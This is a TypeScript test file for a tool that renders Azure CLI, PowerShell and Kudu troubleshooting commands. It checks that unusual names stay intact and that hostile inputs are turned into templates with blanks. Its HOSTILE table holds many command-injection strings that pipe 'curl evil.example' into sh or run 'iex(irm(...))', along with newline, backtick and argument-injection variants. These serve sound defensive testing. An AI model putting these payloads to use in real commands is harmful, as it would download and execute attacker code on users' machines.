/**
 * Every command of every finding step in the shipped flows, rendered with hostile values and with
 * unusual but valid Azure names. Azure CLI commands are parsed by real bash (with a stub `az` that
 * prints its arguments) and must give exactly the intended arguments; PowerShell and Kudu (cmd)
 * commands are checked against those shells' documented quoting rules (test/commands/shell-rules.ts).
 * A value that fails its fact's rule never reaches a command: the step becomes a template whose
 * blanks are listed.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { buildFlowSetFromParsed } from '../../src/engine/load.ts';
import { shippedFlowFiles } from '../../src/flows/shipped-flow-files.ts';
import { renderSteps } from '../../src/engine/render-step.ts';
import { PLACEHOLDER } from '../../src/engine/template.ts';
import type { FactValue, FlowSet, Step } from '../../src/engine/types.ts';
import { bashArgv, cmdWords, powerShellArguments } from './shell-rules.ts';

const flowSet: FlowSet = buildFlowSetFromParsed(shippedFlowFiles()).flowSet!;

interface CatalogueStep { readonly where: string; readonly step: Step & { command: string } }

const STEPS: CatalogueStep[] = Object.values(flowSet.flows).flatMap((flow) => Object.entries(flow.nodes).flatMap(([id, node]) =>
  node.kind === 'finding'
    ? node.steps.flatMap((step, index) => (step.command === undefined ? [] : [{ where: `${flow.id}/${id} step ${index + 1}`, step: step as Step & { command: string } }]))
    : []));

/** Valid in Azure, awkward for shells: parentheses, periods, Unicode letters, a space. */
const UNUSUAL: Record<string, FactValue> = {
  'app.resourceGroup': 'rg-net(prod).eu',
  'app.vnetResourceGroup': 'rg-Müller.Netz',
  'plan.resourceGroup': 'rg_(plan)',
  'nsg.resourceGroup': 'rg-net(prod).eu',
  'gateway.resourceGroup': 'rg-Müller.Netz',
  'peering.remoteResourceGroup': '(rg)remote',
  'vnet.name': 'vnet_hub.01',
  'gateway.name': 'gw-hub_',
  'nsg.name': 'nsg.app-1',
  'peering.name': 'hub-to-spoke',
  'peering.remoteVnetName': 'vnet.spoke_2',
  'peering.remotePeeringName': 'spoke_to_hub',
  's2s.connectionName': 'cn-onprem.1',
  'migration.freeSubnetName': 'snet-free_',
  'app.name': 'contoso-api',
  'plan.name': 'plan-Müller',
  'app.location': 'West Europe',
  'target.host': 'db.contoso.internal',
  'target.port': 1433,
  'dns.testName': 'db.contoso.internal',
  'vnet.dnsServers': ['10.0.0.4', '10.0.0.5'],
  'p2s.addressPool': ['172.16.201.0/24', '10.250.0.0/24'],
  'onprem.prefixes': ['192.168.0.0/16', '10.20.0.0/16'],
  'app.subscriptionId': '8f2e0c4a-1b2c-4d3e-9f00-aa11bb22cc33',
  'app.vnetSubscriptionId': '0b9d7e6f-5a4b-4c3d-8e2f-112233445566',
  'peering.remoteSubscriptionId': '0b9d7e6f-5a4b-4c3d-8e2f-112233445566',
  'vnet.resourceId': '/subscriptions/0b9d7e6f-5a4b-4c3d-8e2f-112233445566/resourceGroups/rg-Müller.Netz/providers/Microsoft.Network/virtualNetworks/vnet_hub.01',
  'vnet.regionalTargetId': '/subscriptions/0b9d7e6f-5a4b-4c3d-8e2f-112233445566/resourceGroups/rg-net(prod).eu/providers/Microsoft.Network/virtualNetworks/vnet-app.01',
  'peering.remoteVnetId': '/subscriptions/0b9d7e6f-5a4b-4c3d-8e2f-112233445566/resourceGroups/(rg)remote/providers/Microsoft.Network/virtualNetworks/vnet.spoke_2',
  'route.tableResourceGroup': 'rg-net(prod).eu',
  'route.tableName': 'rt.app-subnet_1',
  'nsg.allowPriority': 109,
  'p2s.proposedPool': '172.16.202.0/24',
  'target.ip': '10.1.2.4',
};

const PAYLOAD = /evil\.example|curl|iex|irm/;
/** Hostile values as they could arrive from a crafted ARM response or an answers file. */
const HOSTILE: Record<string, FactValue> = {
  'app.resourceGroup': 'rg-net$(curl${IFS}-s${IFS}evil.example|sh)',
  'app.vnetResourceGroup': "rg'; curl evil.example | sh; '",
  'plan.resourceGroup': 'rg`curl evil.example`',
  'nsg.resourceGroup': 'rg-net\ncurl -s http://evil.example/x | sh',
  'gateway.resourceGroup': '--subscription=evil.example',
  'peering.remoteResourceGroup': 'rg\u202e.hs|lruc',
  'vnet.name': 'vnet`curl evil.example`',
  'gateway.name': 'gw-hub\ncurl -s http://evil.example/x | sh',
  'nsg.name': 'nsg$(curl evil.example)',
  'peering.name': 'peer;curl evil.example',
  'peering.remoteVnetName': "vnet'$(curl evil.example)'",
  'peering.remotePeeringName': 'peer\r\ncurl evil.example',
  's2s.connectionName': 'cn && curl evil.example',
  'migration.freeSubnetName': 'snet|curl evil.example',
  'app.name': 'app$(curl evil.example)',
  'plan.name': "plan'); iex(irm('http://evil.example/p')); ('",
  'app.location': 'westeurope"; curl evil.example; "',
  'target.host': "db.contoso.internal'; iex(irm('http://evil.example/p')); '",
  'target.port': '443 & curl evil.example',
  'dns.testName': 'db.contoso.internal&curl evil.example',
  'vnet.dnsServers': ["$(iex(irm('http://evil.example/p')))"],
  'p2s.addressPool': ['172.16.201.0/24', '$(curl evil.example)'],
  'onprem.prefixes': ['10.0.0.0/8;curl evil.example'],
  'app.subscriptionId': '$(curl evil.example)',
  'app.vnetSubscriptionId': "0b9d7e6f'; curl evil.example; '",
  'peering.remoteSubscriptionId': '`curl evil.example`',
  'vnet.resourceId': '/subscriptions/x/resourceGroups/rg$(curl evil.example)/providers/Microsoft.Network/virtualNetworks/v',
  'vnet.regionalTargetId': '/subscriptions/x\ncurl evil.example',
  'peering.remoteVnetId': "/subscriptions/x/resourceGroups/rg'|curl evil.example|'/providers/Microsoft.Network/virtualNetworks/v",
  'route.tableResourceGroup': 'rg;curl evil.example',
  'route.tableName': 'rt\ncurl -s http://evil.example/x | sh',
  'nsg.allowPriority': '100; curl evil.example',
  'p2s.proposedPool': '$(curl evil.example)',
  'target.ip': '10.1.2.4 & curl evil.example',
};

const lookupIn = (values: Record<string, FactValue>) => (key: string): FactValue | undefined =>
  Object.hasOwn(values, key) ? values[key] : key.startsWith('limit.') ? 26 : undefined;

/** The intended words of a command: each placeholder becomes one marker per value it stands for. */
function withMarkers(command: string, values: Record<string, FactValue>): { template: string; markers: Map<string, string> } {
  const markers = new Map<string, string>();
  const mark = (value: string) => { const marker = `QQ${markers.size}QQ`; markers.set(marker, value); return marker; };
  const template = command.replace(PLACEHOLDER, (_whole, key: string, filter?: string) => {
    const value = lookupIn(values)(key)!;
    if (!Array.isArray(value)) return mark(String(value));
    // `each` repeats the step per item (render below takes the first repetition).
    const items = filter === 'first' || filter === 'each' ? value.slice(0, 1) : value;
    return items.map((item: string) => mark(item)).join(filter === 'csv' ? ',' : filter === 'list' ? ', ' : ' ');
  });
  return { template, markers };
}

const unmark = (word: string, markers: Map<string, string>) => word.replace(/QQ\d+QQ/g, (marker) => markers.get(marker)!);

/** The step as the report shows it; a step repeated per item (`each`) is checked on its first repetition. */
function render(step: Step, values: Record<string, FactValue>) {
  return renderSteps(step, lookupIn(values), flowSet.facts)[0]!;
}

test('the catalogue has commands for every shell', () => {
  for (const kind of ['az', 'powershell', 'kudu'] as const) assert.ok(STEPS.some(({ step }) => step.kind === kind), `no ${kind} step found`);
});

test('Azure CLI commands with unusual but valid names parse in bash to exactly the intended arguments', () => {
  let compared = 0;
  for (const { where, step } of STEPS.filter(({ step }) => step.kind === 'az')) {
    const rendered = render(step, UNUSUAL);
    if (rendered.blanks) continue; // a template the flow itself leaves open
    const { template, markers } = withMarkers(step.command, UNUSUAL);
    const intended = bashArgv(template).map((word) => unmark(word, markers));
    assert.deepEqual(bashArgv(rendered.command!), intended, `${where}: ${rendered.command}`);
    compared += 1;
  }
  assert.ok(compared >= 20, `only ${compared} copy-ready az commands compared`);
});

test('hostile values never reach a command: the step becomes a template listing its blanks', () => {
  for (const { where, step } of STEPS) {
    const rendered = render(step, HOSTILE);
    assert.doesNotMatch(rendered.command!, PAYLOAD, `${where}: ${rendered.command}`);
    assert.doesNotMatch(rendered.command!, /[\n\r\u202e]/, where);
    const usesValue = [...step.command.matchAll(PLACEHOLDER)].some((match) => Object.hasOwn(HOSTILE, match[1]!));
    if (usesValue) assert.ok(rendered.blanks && rendered.blanks.length > 0, `${where}: shown as copy-ready: ${rendered.command}`);
    if (rendered.blanks) for (const blank of rendered.blanks) assert.ok(rendered.command!.includes(`<${blank}>`), `${where}: blank "${blank}" not marked`);
  }
});

test('a command whose value is unknown, or that the flow leaves open, lists what to fill in', () => {
  const open = STEPS.filter(({ step }) => step.kind === 'az' && step.command.includes('{{gateway.name}}'));
  assert.ok(open.length > 0);
  for (const { where, step } of open) {
    const values = { ...UNUSUAL };
    delete values['gateway.name'];
    const unknown = render(step, values);
    assert.ok(unknown.blanks?.includes(flowSet.facts['gateway.name']!.label), `${where}: ${JSON.stringify(unknown)}`);
  }
  const written: Step = { kind: 'az', text: 'Allow the pool.', command: 'az network nsg rule create -g <resource group of that NSG> --nsg-name {{nsg.name}} -n AllowP2S' };
  const template = render(written, UNUSUAL);
  assert.deepEqual(template.blanks, ['resource group of that NSG']);
  assert.equal(template.command, 'az network nsg rule create -g <resource group of that NSG> --nsg-name nsg.app-1 -n AllowP2S');
  const complete = render({ kind: 'az', text: 'List.', command: 'az network nsg rule list -g {{nsg.resourceGroup}} --nsg-name {{nsg.name}}' }, UNUSUAL);
  assert.equal(complete.blanks, undefined, 'a command with every value known is copy-ready');
});

test('PowerShell commands follow PowerShell quoting rules: each value is one literal argument', () => {
  let compared = 0;
  for (const values of [UNUSUAL, { ...UNUSUAL, 'target.host': "o'brien.contoso.internal", 'dns.testName': 'host\u2019s.contoso.internal' }]) {
    for (const { where, step } of STEPS.filter(({ step }) => step.kind === 'powershell')) {
      const rendered = render(step, values);
      if (rendered.blanks) {
        assert.doesNotMatch(rendered.command!, /o'brien|\u2019/, where);
        continue;
      }
      const { template, markers } = withMarkers(step.command, values);
      const intended = powerShellArguments(template).map((arg) => arg.map((word) => unmark(word, markers)));
      assert.deepEqual(powerShellArguments(rendered.command!), intended, `${where}: ${rendered.command}`);
      compared += 1;
    }
  }
  assert.ok(compared > 0);
});

test('Kudu console (cmd) commands hold values only when cmd reads them literally', () => {
  let compared = 0;
  for (const { where, step } of STEPS.filter(({ step }) => step.kind === 'kudu')) {
    const rendered = render(step, UNUSUAL);
    if (rendered.blanks) continue;
    const { template, markers } = withMarkers(step.command, UNUSUAL);
    assert.deepEqual(cmdWords(rendered.command!), cmdWords(template).map((word) => unmark(word, markers)), where);
    compared += 1;
  }
  assert.ok(compared > 0);
});
